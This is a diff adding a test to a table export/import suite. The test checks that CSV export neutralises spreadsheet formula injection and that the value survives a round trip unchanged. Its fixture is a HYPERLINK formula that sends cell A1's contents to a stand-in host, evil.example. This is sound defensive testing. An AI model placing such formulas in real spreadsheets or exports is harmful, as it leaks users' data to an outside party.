@@ -210,6 +210,17 @@ describe('tableExport: the round trip', () => {
     }
   });
 
+  it('guards cells that a spreadsheet would run as formulas, and reads them back as typed', async () => {
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")';
+    await importTable({ type: 'COLLABORATIONS', file: b64(`key\ttitle\tkind\tunits\nformel\t${title}\tNETWORK\tbydel-alna\n`), apply: true });
+    const exported = await server.gql(`{ tableExport(type: COLLABORATIONS, format: CSV) { base64 } }`);
+    const line = Buffer.from(exported.data.tableExport.base64, 'base64').toString('utf8').split('\r\n').find((l) => l.startsWith('formel;'))!;
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Klikk"")"`);
+    const back = await importTable({ type: 'COLLABORATIONS', file: exported.data.tableExport.base64 });
+    expect(back.data.tableImport.report.rows.find((r: { key: string }) => r.key === 'formel')).toMatchObject({ action: 'UNCHANGED' });
+    expect((await server.gql('{ collaboration(key: "formel") { title } }')).data.collaboration.title).toBe(title);
+  });
+
   it('exports with a byte-order mark and ";" so Excel opens æøå in columns', async () => {
     const exported = await server.gql(`{ tableExport(type: UNITS, format: CSV) { base64 } }`);
     const bytes = Buffer.from(exported.data.tableExport.base64, 'base64');
